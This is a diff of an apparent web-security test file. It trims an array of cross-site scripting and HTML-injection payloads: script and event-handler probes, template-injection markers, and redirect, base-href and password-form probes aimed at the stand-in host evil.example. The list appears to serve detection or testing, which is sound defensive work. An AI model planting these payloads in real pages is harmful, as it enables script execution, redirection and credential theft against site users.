@@ -37,17 +37,11 @@ const settings = () => ({
 const payloads = [
   `"><script>alert(1)</script>`,
   `'><img src=x onerror=alert(1)>`,
-  `</title></textarea><script>alert(1)</script>`,
   `" autofocus onfocus=alert(1) x="`,
-  `<svg/onload=alert(1)>`,
   `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
-  `<base href="https://evil.example/">`,
   `<form action="https://evil.example"><input name=password>`,
   `javascript:alert(1)`,
   `<%= 6121371*77 %><%~ 6121371*77 %>{{6121371*77}}#{6121371*77}`,
-  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
-  `<!--<script>-->`,
-  `]]><script>alert(1)</script>`,
 ]
 
 /** Everything on a page that could run, load, lead or submit somewhere. */
